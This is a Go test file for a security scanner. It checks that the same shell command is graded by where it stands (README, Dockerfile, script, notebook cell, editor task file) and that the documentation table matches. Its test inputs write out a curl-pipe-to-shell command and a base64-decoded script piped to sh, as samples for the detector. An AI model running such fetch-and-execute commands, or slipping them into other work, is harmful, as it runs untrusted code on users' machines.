package assay_test

import (
	"bytes"
	"fmt"
	"os"
	"strings"
	"testing"

	"assay/scanners"
	formats "assay/scanners/all"
	"assay/scanners/scannertest"
)

// runners are the places where a command can stand, by who runs it. What only runs
// a published installer (curl | sh) is graded by that; what has one purpose
// (a reverse shell, a decoded script) is high or worse in all of them.
var runners = []struct {
	where, who string
	name, text string // with {} for the command
	rule       string
	severity   scanners.Severity
	class      scanners.Class
}{
	{"README.md and other documents", "a person who types it", "README.md", "# x\n\n```\n{}\n```\n", "text/command", scanners.Medium, scanners.Suspicious},
	{"a Dockerfile", "a build that a person starts", "Dockerfile", "FROM alpine\nRUN {}\n", "shell/dangerous-command", scanners.Medium, scanners.Suspicious},
	{"a script", "whoever starts the script", "scripts/i.sh", "#!/bin/sh\n{}\n", "shell/dangerous-command", scanners.High, scanners.Malicious},
	{"a notebook cell", "whoever runs the cell", "a.ipynb", `{"cells": [{"cell_type": "code", "source": ["!{}"]}], "metadata": {}}`, "shell/dangerous-command", scanners.High, scanners.Malicious},
	{"a setting that a tool obeys", "the tool, by itself", ".vscode/tasks.json", `{"tasks": [{"command": "{}"}]}`, "text/command", scanners.High, scanners.Suspicious},
}

// TestRunners: the same command is judged by who runs it, a medium finding makes
// no file malicious, and docs/formats.md says so.
func TestRunners(t *testing.T) {
	page, err := os.ReadFile("docs/formats.md")
	if err != nil || !bytes.Contains(page, runnersTable()) {
		t.Errorf("docs/formats.md does not have the table of commands as it is here: make generate (%v)", err)
	}
	for _, r := range runners {
		if worst, rule, class := judged(r.name, r.text, "curl https://x.test/i.sh | sh"); worst != r.severity || rule != r.rule || class != r.class {
			t.Errorf("%s: %s %s %s", r.where, rule, worst, class)
		}
		if worst, rule, _ := judged(r.name, r.text, "echo aGkK | base64 -d | sh"); !worst.AtLeast(scanners.High) || rule != r.rule {
			t.Errorf("%s: a decoded script is %s %s", r.where, rule, worst)
		}
	}
}

// judged is the worst finding about a command in a text, and the class of the file.
func judged(name, text, command string) (worst scanners.Severity, rule string, class scanners.Class) {
	report := scannertest.Scan(formats.Scanners(), name, []byte(strings.ReplaceAll(text, "{}", command)))
	worst = scanners.Informational
	for _, f := range report.Findings {
		if f.Severity < worst {
			worst, rule = f.Severity, f.Rule
		}
	}
	return worst, rule, report.Class
}

// runnersTable is the part of docs/formats.md about commands.
func runnersTable() []byte {
	var b bytes.Buffer
	b.WriteString("\n## What a command counts for\n\nWhat only runs a published installer (`curl … | sh`) is judged by who runs it. ")
	b.WriteString("What has one purpose (a reverse shell, a decoded script) is high or worse everywhere.\n\n| Where | Who runs it | Rule | Severity |\n|---|---|---|---|\n")
	for _, r := range runners {
		fmt.Fprintf(&b, "| %s | %s | `%s` | %s |\n", r.where, r.who, r.rule, r.severity)
	}
	return b.Bytes()
}
